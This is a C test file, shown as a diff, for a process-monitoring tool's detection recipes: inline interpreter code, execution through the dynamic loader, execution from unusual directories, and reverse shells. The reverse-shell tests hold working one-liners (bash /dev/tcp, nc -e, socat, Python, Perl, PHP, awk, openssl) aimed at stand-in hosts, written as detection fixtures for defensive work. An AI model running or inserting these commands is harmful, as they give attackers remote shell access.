@@ -1,0 +1,472 @@
+/*
+ * test-match.c: the recipe loader (errors must name file, recipe, field
+ * and offset), the condition fields, and the built-in recipes on command
+ * lines that must and must not be flagged.
+ *
+ * Processes are built in memory through the process tree (no log lines):
+ * what is tested is the recipes' judgement, given an exec.
+ */
+#include "config.h"
+
+#include <stdlib.h>
+
+#include "steptrail.h"
+#include "tap.h"
+
+/* ----------------------------------------------------------- harness */
+
+struct spec {
+	const char	*exe;
+	const char	*argv[8];
+	const char	*path;		/* execve target; default argv[0] */
+	const char	*parent_exe;	/* default /usr/bin/bash */
+	const char	*parent_argv[8];
+	const char	*cwd;
+};
+
+struct hits {
+	struct st_buf	 names;
+	enum st_severity sev;
+};
+
+static void
+on_hit(const struct st_recipe *r, const struct st_alt *alt, void *arg)
+{
+	struct hits *h = arg;
+
+	if (h->names.len > 0)
+		st_buf_addc(&h->names, ',');
+	st_buf_adds(&h->names, r->name);
+	h->sev = alt->severity ? alt->severity : r->severity;
+}
+
+static void
+push_exec(struct st_proctree *t, unsigned long serial, int pid, int ppid,
+    const char *exe, const char *const *argv, const char *path,
+    const char *cwd)
+{
+	struct st_event *ev = xcalloc(1, sizeof *ev);
+
+	ev->kind = ST_EV_EXEC;
+	ev->has_syscall = true;
+	ev->serial = serial;
+	ev->sec = 1000;
+	ev->pid = pid;
+	ev->ppid = ppid;
+	ev->exe = xstrdup(exe);
+	ev->cwd = xstrdup(cwd != NULL ? cwd : "/home/runner/work/r/r");
+	for (; argv != NULL && *argv != NULL; argv++) {
+		ev->argv = xreallocarray(ev->argv, ev->nargv + 1,
+		    sizeof *ev->argv);
+		ev->argv[ev->nargv++] = xstrdup(*argv);
+	}
+	if (path != NULL)
+		ev->path0 = xstrdup(path);
+	else if (ev->nargv > 0)
+		ev->path0 = xstrdup(ev->argv[0]);
+	st_proctree_apply(t, ev);
+	st_event_free(ev);
+}
+
+/* Recipe names that fire on the exec described, comma-separated. */
+static char *
+run(struct st_recipes *rs, const struct spec *s, enum st_severity *sev)
+{
+	static const char *const bash_argv[] = { "bash", "-e",
+	    "/home/runner/work/_temp/step.sh", NULL };
+	struct st_proctree *t = st_proctree_new();
+	struct hits h = { { 0 }, ST_SEV_NONE };
+	struct st_proc *p;
+
+	push_exec(t, 1, 100, 50, s->parent_exe ? s->parent_exe :
+	    "/usr/bin/bash", s->parent_argv[0] ? s->parent_argv : bash_argv,
+	    NULL, NULL);
+	push_exec(t, 2, 101, 100, s->exe, s->argv, s->path, s->cwd);
+	p = st_proctree_find(t, 0, 101);
+	st_match_exec(rs, p, on_hit, &h);
+	st_proctree_free(t);
+	if (sev != NULL)
+		*sev = h.sev;
+	return st_buf_steal(&h.names);
+}
+
+static void
+expect(struct st_recipes *rs, const struct spec *s, const char *want)
+{
+	struct st_buf line = { 0 };
+	char *got;
+	size_t i;
+
+	for (i = 0; s->argv[i] != NULL; i++) {
+		if (i > 0)
+			st_buf_addc(&line, ' ');
+		st_buf_adds(&line, s->argv[i]);
+	}
+	got = run(rs, s, NULL);
+	is_str(got, want, "%s: [%s] %s", want[0] ? want : "none", s->exe,
+	    st_buf_cstr(&line));
+	free(got);
+	st_buf_free(&line);
+}
+
+static int
+load(struct st_recipes *rs, const char *json, char **cause)
+{
+	*cause = NULL;
+	return st_recipes_load_text(rs, "test.json", json, strlen(json), cause);
+}
+
+/* ------------------------------------------------------------ loader */
+
+static void
+load_error(const char *json, const char *want, const char *what)
+{
+	struct st_recipes rs;
+	char *cause;
+	int rc;
+
+	st_recipes_init(&rs);
+	rc = load(&rs, json, &cause);
+	ok(rc == -1 && cause != NULL && strstr(cause, want) != NULL,
+	    "loader: %s", what);
+	if (cause == NULL || strstr(cause, want) == NULL)
+		printf("#   got:  %s\n#   want: ...%s...\n",
+		    cause ? cause : "(no error)", want);
+	free(cause);
+	st_recipes_free(&rs);
+}
+
+#define HEAD "{\"name\":\"r1\",\"description\":\"d\",\"severity\":\"high\"," \
+	"\"technique\":\"T1059\","
+
+static void
+test_loader(void)
+{
+	struct st_recipes rs;
+	char *cause;
+
+	load_error(HEAD "\"match\":{\"exe\":\"/usr/(bin\"}}",
+	    "test.json: recipe \"r1\": match.exe: bad regular expression at "
+	    "offset 9: missing closing parenthesis",
+	    "bad regex names file, recipe, field and offset");
+	load_error(HEAD "\"match\":[{\"exe\":\"x\"},{\"args\":\"[z-a]\"}]}",
+	    "test.json: recipe \"r1\": match[1].args: bad regular expression "
+	    "at offset 3", "bad regex in the second alternative says which");
+	load_error(HEAD "\"match\":{\"exe\":\"x\",\"unless\":{\"cwd\":\"(\"}}}",
+	    "recipe \"r1\": match.unless.cwd: bad regular expression at "
+	    "offset 1",
+	    "bad regex in a nested exception");
+	load_error(HEAD "\"match\":{\"exx\":\"x\"}}",
+	    "recipe \"r1\": match: unknown field \"exx\"", "unknown field");
+	load_error(HEAD "\"match\":{\"exe\":\"x\"},\"unles\":{}}",
+	    "recipe \"r1\": unknown key \"unles\"", "unknown key (typo)");
+	load_error("{\"name\":\"r1\",\"description\":\"d\",\"severity\":\"huge\","
+	    "\"technique\":\"T1059\",\"match\":{\"exe\":\"x\"}}",
+	    "\"severity\" must be low, medium, high or critical",
+	    "bad severity");
+	load_error("{\"name\":\"r1\",\"description\":\"d\",\"severity\":\"low\","
+	    "\"technique\":\"1059\",\"match\":{\"exe\":\"x\"}}",
+	    "\"technique\" must be a MITRE ATT&CK technique id",
+	    "bad technique");
+	load_error(HEAD "\"match\":{}}", "match: must be an object of field",
+	    "empty alternative");
+	load_error(HEAD "\"on\":\"connect\",\"match\":{\"exe\":\"x\"}}",
+	    "\"on\": \"connect\" is not supported", "unsupported event");
+	load_error(HEAD "\"match\":{\"exe\":\"x\"}", "test.json:1:",
+	    "JSON syntax error with line:column");
+	load_error("{\"name\":\"R 1\"}", "\"name\" must be a string",
+	    "bad name");
+	load_error(HEAD "\"match\":{\"exe\":\"x\",\"unless\":{\"cwd\":\"y\","
+	    "\"unless\":{\"cwd\":\"z\"}}}}", "unknown field \"unless\"",
+	    "exceptions cannot nest further");
+
+	st_recipes_init(&rs);
+	ok(st_recipes_load_builtin(&rs, &cause) == 0 && rs.n == 4,
+	    "built-in recipes load (%zu)", rs.n);
+	ok(load(&rs, "{\"name\":\"code_on_the_fly\",\"description\":\"mine\","
+	    "\"severity\":\"low\",\"technique\":\"T1059\",\"match\":{\"exe\":"
+	    "\"nothing-matches-this\"}}", &cause) == 0 && rs.n == 4 &&
+	    strcmp(rs.v[1].description, "mine") == 0,
+	    "a recipe of the same name replaces the built-in one");
+	st_recipes_free(&rs);
+}
+
+/* ------------------------------------------------------------- fields */
+
+static void
+test_fields(void)
+{
+	struct st_recipes rs;
+	enum st_severity sev;
+	char *cause, *got;
+	struct spec s = { "/usr/bin/curl", { "curl", "-s", "http://x/a b",
+	    NULL }, NULL, "/usr/bin/bash", { "bash", "-c", "build it", NULL },
+	    "/w" };
+
+	st_recipes_init(&rs);
+	ok(load(&rs, "["
+	    "{\"name\":\"f_parent\",\"description\":\"d\",\"severity\":\"low\","
+	    "\"technique\":\"T1105\",\"match\":{\"exe\":\"/curl$\","
+	    "\"parent.cmdline\":\"^bash -c build\"}},"
+	    "{\"name\":\"f_ancestor\",\"description\":\"d\",\"severity\":\"low\","
+	    "\"technique\":\"T1105\",\"match\":{\"ancestor.exe\":\"^/usr/bin/"
+	    "bash$\",\"arg\":\"^http://x/a b$\"}},"
+	    "{\"name\":\"f_args\",\"description\":\"d\",\"severity\":\"low\","
+	    "\"technique\":\"T1105\",\"match\":{\"args\":\"^-s http\","
+	    "\"cmdline\":\"^curl -s\",\"argv0\":\"^curl$\",\"cwd\":\"^/w$\","
+	    "\"uid\":\"^0$\",\"path\":\"^/w/curl$\"}},"
+	    "{\"name\":\"f_unless\",\"description\":\"d\",\"severity\":\"low\","
+	    "\"technique\":\"T1105\",\"match\":{\"exe\":\"curl\"},"
+	    "\"unless\":{\"parent.exe\":\"bash\"}},"
+	    "{\"name\":\"f_sev\",\"description\":\"d\",\"severity\":\"low\","
+	    "\"technique\":\"T1105\",\"match\":[{\"exe\":\"nomatch\","
+	    "\"severity\":\"critical\"},{\"exe\":\"curl\",\"severity\":"
+	    "\"medium\"}]}"
+	    "]", &cause) == 0, "field test recipes load");
+	free(cause);
+	got = run(&rs, &s, &sev);
+	is_str(got, "f_parent,f_ancestor,f_args,f_sev", "fields: parent.cmdline,"
+	    " ancestor.exe, arg (one argument with a space), args, cmdline, "
+	    "argv0, cwd, uid, path; recipe-level unless");
+	is_int(sev, ST_SEV_MEDIUM, "fields: the alternative that matched sets "
+	    "the severity");
+	free(got);
+	st_recipes_free(&rs);
+
+	/* an attacker pads an argument so that the matcher gives up */
+	st_recipes_init(&rs);
+	ok(load(&rs, "["
+	    "{\"name\":\"slow\",\"description\":\"d\",\"severity\":\"low\","
+	    "\"technique\":\"T1105\",\"match\":{\"args\":\"^(a|aa)+$\"}},"
+	    "{\"name\":\"slow_unless\",\"description\":\"d\",\"severity\":"
+	    "\"low\",\"technique\":\"T1105\",\"match\":{\"exe\":\"curl\"},"
+	    "\"unless\":{\"args\":\"^(a|aa)+$\"}}]", &cause) == 0,
+	    "slow recipes load");
+	free(cause);
+	s.argv[1] = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab";
+	s.argv[2] = NULL;
+	got = run(&rs, &s, NULL);
+	is_str(got, "slow,slow_unless", "match limit: counts as a match in "
+	    "match, as no exception in unless (fail closed)");
+	ok(rs.match_errors == 2, "match limit: both give-ups counted (%lu)",
+	    rs.match_errors);
+	free(got);
+	st_recipes_free(&rs);
+}
+
+/* --------------------------------------------------- built-in recipes */
+
+static void
+test_code_on_the_fly(struct st_recipes *rs)
+{
+	static const struct spec yes[] = {
+		{ "/usr/bin/python3.11", { "python3", "-c", "print(1)" } },
+		{ "/usr/bin/python3.11", { "python3", "-u", "-c", "x" } },
+		{ "/usr/bin/python3.11", { "python3", "-Bc", "x" } },
+		{ "/usr/bin/python3.11", { "python3", "-W", "ignore", "-c",
+		    "x" } },
+		{ "/usr/bin/python2.7", { "python", "-c", "x" } },
+		{ "/usr/bin/pypy3", { "pypy3", "-c", "x" } },
+		{ "/usr/bin/perl", { "perl", "-e", "print 1" } },
+		{ "/usr/bin/perl", { "perl", "-lne", "print if /x/", "f" } },
+		{ "/usr/bin/perl", { "perl", "-Mstrict", "-we", "1" } },
+		{ "/usr/bin/perl5.36.0", { "perl", "-E", "say 1" } },
+		{ "/usr/bin/perl", { "perl", "-I", "lib", "-e", "1" } },
+		{ "/usr/bin/node", { "node", "-e", "1" } },
+		{ "/usr/bin/node", { "node", "--eval", "1" } },
+		{ "/usr/bin/node", { "node", "-p", "1+1" } },
+		{ "/usr/local/bin/nodejs", { "nodejs", "-pe", "1" } },
+		{ "/usr/bin/node", { "node", "-r", "ts-node/register", "-e",
+		    "1" } },
+		{ "/usr/bin/php8.2", { "php", "-r", "echo 1;" } },
+		{ "/usr/bin/php", { "php", "-d", "x=1", "-r", "echo 1;" } },
+		{ "/usr/bin/ruby3.1", { "ruby", "-e", "puts 1" } },
+		{ "/usr/bin/ruby3.1", { "ruby", "-rsocket", "-ne", "1" } },
+	};
+	static const struct spec no[] = {
+		{ "/usr/bin/python3.11", { "python3", "build.py", "-c", "x" } },
+		{ "/usr/bin/python3.11", { "python3", "-m", "mod", "-c", "x" } },
+		{ "/usr/bin/python3.11", { "python3", "-m", "compileall", "." } },
+		{ "/usr/bin/perl", { "perl", "script.pl", "-e" } },
+		{ "/usr/bin/perl", { "perl", "-Mfeature=say", "x.pl" } },
+		{ "/usr/bin/node", { "node", "app.js", "-e" } },
+		{ "/usr/bin/node", { "node", "--inspect", "app.js", "-e" } },
+		{ "/usr/bin/php8.2", { "php", "artisan", "-r" } },
+		{ "/usr/bin/ruby3.1", { "ruby", "x.rb", "-e" } },
+		{ "/usr/bin/bash", { "bash", "-c", "python3 -c x" } },
+		{ "/usr/bin/python3-config", { "python3-config", "-c" } },
+	};
+	size_t i;
+
+	for (i = 0; i < sizeof yes / sizeof yes[0]; i++)
+		expect(rs, &yes[i], "code_on_the_fly");
+	for (i = 0; i < sizeof no / sizeof no[0]; i++)
+		expect(rs, &no[i], "");
+}
+
+#define LD "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
+
+static void
+test_loader_recipe(struct st_recipes *rs)
+{
+	static const struct spec yes[] = {
+		{ LD, { "/lib64/ld-linux-x86-64.so.2", "/bin/true" } },
+		{ LD, { "/lib64/ld-linux-x86-64.so.2", "--library-path",
+		    "/usr/lib", "/usr/bin/id" } },
+		{ LD, { "/tmp/renamed", "/usr/bin/id" }, "/tmp/renamed" },
+		{ "/lib/ld-musl-x86_64.so.1", { "ld-musl-x86_64.so.1",
+		    "/bin/busybox", "sh" } },
+		/* exec -a: argv0 names the loader, a program follows */
+		{ "/usr/bin/env", { "/lib64/ld-linux-x86-64.so.2",
+		    "/usr/bin/id" } },
+	};
+	static const struct spec no[] = {
+		{ LD, { "/lib64/ld-linux-x86-64.so.2", "--verify",
+		    "/bin/true" } },
+		{ LD, { "/lib64/ld-linux-x86-64.so.2", "--help" } },
+		{ LD, { "/lib64/ld-linux-x86-64.so.2" } },
+		{ LD, { "/lib64/ld-linux-x86-64.so.2", "/bin/true" }, NULL,
+		    "/usr/bin/bash", { "/bin/bash", "/usr/bin/ldd",
+		    "/bin/true" } },
+		{ "/usr/bin/ls", { "ls", "/lib64/ld-linux-x86-64.so.2" } },
+		/* argv0 names the loader, but no program follows */
+		{ "/usr/bin/id", { "/lib64/ld-linux-x86-64.so.2", "-u" } },
+	};
+	size_t i;
+
+	/* the third runs a copy of the loader from /tmp: two findings */
+	for (i = 0; i < sizeof yes / sizeof yes[0]; i++)
+		expect(rs, &yes[i], i == 2 ? "binary_executed_by_loader,"
+		    "exec_from_unusual_dir" : "binary_executed_by_loader");
+	for (i = 0; i < sizeof no / sizeof no[0]; i++)
+		expect(rs, &no[i], "");
+}
+
+static void
+test_unusual_dir(struct st_recipes *rs)
+{
+	static const struct {
+		struct spec	 s;
+		const char	*want;
+		enum st_severity sev;
+	} cases[] = {
+		{ { "/tmp/x", { "/tmp/x" } }, "exec_from_unusual_dir",
+		    ST_SEV_HIGH },
+		{ { "/dev/shm/y", { "/dev/shm/y" } }, "exec_from_unusual_dir",
+		    ST_SEV_CRITICAL },
+		{ { "/usr/bin/bash", { "/var/tmp/s.sh" } },
+		    "exec_from_unusual_dir", ST_SEV_HIGH },
+		{ { "/w/.cache-x/tool", { "./.cache-x/tool" }, NULL, NULL,
+		    { NULL }, "/w" }, "exec_from_unusual_dir", ST_SEV_HIGH },
+		{ { "/memfd:payload (deleted)", { "payload" }, "" },
+		    "exec_from_unusual_dir", ST_SEV_CRITICAL },
+		{ { "/proc/self/fd/3", { "x" } }, "exec_from_unusual_dir",
+		    ST_SEV_CRITICAL },
+		{ { "/dev/shm/x", { "x" }, "/home/u/.cargo/bin/x" },
+		    "exec_from_unusual_dir", ST_SEV_CRITICAL },
+		{ { "/tmp/go-build123/b001/exe/main", { "main" } }, "",
+		    ST_SEV_NONE },
+		{ { "/home/u/.cargo/bin/cargo", { "cargo", "build" } }, "",
+		    ST_SEV_NONE },
+		{ { "/usr/bin/node", { "node_modules/.bin/tsc" }, NULL, NULL,
+		    { NULL }, "/w" }, "", ST_SEV_NONE },
+		{ { "/w/.libs/lt-prog", { "/w/.libs/lt-prog" } }, "",
+		    ST_SEV_NONE },
+		{ { "/usr/bin/bash", { "/w/.github/scripts/build.sh" } }, "",
+		    ST_SEV_NONE },
+		{ { "/usr/bin/make", { "make" } }, "", ST_SEV_NONE },
+		{ { "/home/u/w/hello", { "./hello" }, NULL, NULL, { NULL },
+		    "/home/u/w" }, "", ST_SEV_NONE },
+	};
+	enum st_severity sev;
+	size_t i;
+	char *got;
+
+	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		got = run(rs, &cases[i].s, &sev);
+		ok(strcmp(got, cases[i].want) == 0 && sev == cases[i].sev,
+		    "%s %s: exe %s argv0 %s", cases[i].want[0] ?
+		    cases[i].want : "none", st_severity_name(cases[i].sev),
+		    cases[i].s.exe, cases[i].s.argv[0]);
+		if (strcmp(got, cases[i].want) != 0 || sev != cases[i].sev)
+			printf("#   got: \"%s\" %s\n", got,
+			    st_severity_name(sev));
+		free(got);
+	}
+}
+
+static void
+test_reverse_shell(struct st_recipes *rs)
+{
+	static const struct {
+		struct spec	 s;
+		const char	*want;
+	} cases[] = {
+		{ { "/usr/bin/bash", { "bash", "-c",
+		    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" } },
+		    "reverse_shell" },
+		{ { "/usr/bin/dash", { "sh", "-c", "exec 5<>/dev/tcp/10.0.0.1/"
+		    "4444; cat <&5 | sh >&5" } }, "reverse_shell" },
+		{ { "/usr/bin/bash", { "bash", "-c",
+		    "</dev/tcp/127.0.0.1/5432" } }, "" },
+		{ { "/usr/bin/bash", { "bash", "-c", "until bash -c "
+		    "'echo > /dev/tcp/db/5432'; do sleep 1; done" } }, "" },
+		{ { "/usr/bin/nc.traditional", { "nc", "-e", "/bin/sh",
+		    "10.0.0.1", "4444" } }, "reverse_shell" },
+		{ { "/usr/bin/ncat", { "ncat", "--sh-exec", "sh", "h", "1" } },
+		    "reverse_shell" },
+		{ { "/usr/bin/nc.openbsd", { "nc", "-zv", "h", "22" } }, "" },
+		{ { "/usr/bin/socat", { "socat", "tcp-connect:10.0.0.1:4444",
+		    "exec:/bin/sh,pty,stderr" } }, "reverse_shell" },
+		{ { "/usr/bin/socat", { "socat", "TCP-LISTEN:8080,fork",
+		    "TCP:localhost:80" } }, "" },
+		{ { "/usr/bin/python3.11", { "python3", "-c", "import socket,"
+		    "subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\","
+		    "4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\","
+		    "\"-i\"])" } }, "code_on_the_fly,reverse_shell" },
+		{ { "/usr/bin/perl", { "perl", "-e", "use Socket;socket(S,"
+		    "PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,"
+		    "sockaddr_in(4444,inet_aton(\"10.0.0.1\")));open(STDIN,"
+		    "\">&S\");exec(\"/bin/sh -i\");" } },
+		    "code_on_the_fly,reverse_shell" },
+		{ { "/usr/bin/php8.2", { "php", "-r", "$sock=fsockopen("
+		    "\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");" } },
+		    "code_on_the_fly,reverse_shell" },
+		{ { "/usr/bin/python3.11", { "python3", "-c", "import socket;"
+		    "print(socket.gethostname())" } }, "code_on_the_fly" },
+		{ { "/usr/bin/dash", { "sh", "-c", "rm /tmp/f;mkfifo /tmp/f;"
+		    "cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f" } },
+		    "reverse_shell" },
+		{ { "/usr/bin/gawk", { "awk", "BEGIN {s = \"/inet/tcp/0/"
+		    "10.0.0.1/4242\"; while (1) { printf \"> \" |& s; }}" } },
+		    "reverse_shell" },
+		{ { "/usr/bin/dash", { "sh", "-c", "mkfifo /tmp/p && "
+		    "openssl s_client -quiet -connect h:4 < /tmp/p | sh > "
+		    "/tmp/p" } }, "reverse_shell" },
+	};
+	size_t i;
+
+	for (i = 0; i < sizeof cases / sizeof cases[0]; i++)
+		expect(rs, &cases[i].s, cases[i].want);
+}
+
+int
+main(void)
+{
+	struct st_recipes rs;
+	char *cause = NULL;
+
+	test_loader();
+	test_fields();
+	st_recipes_init(&rs);
+	if (st_recipes_load_builtin(&rs, &cause) != 0) {
+		ok(0, "built-in recipes: %s", cause);
+		return done_testing();
+	}
+	test_code_on_the_fly(&rs);
+	test_loader_recipe(&rs);
+	test_unusual_dir(&rs);
+	test_reverse_shell(&rs);
+	st_recipes_free(&rs);
+	return done_testing();
+}
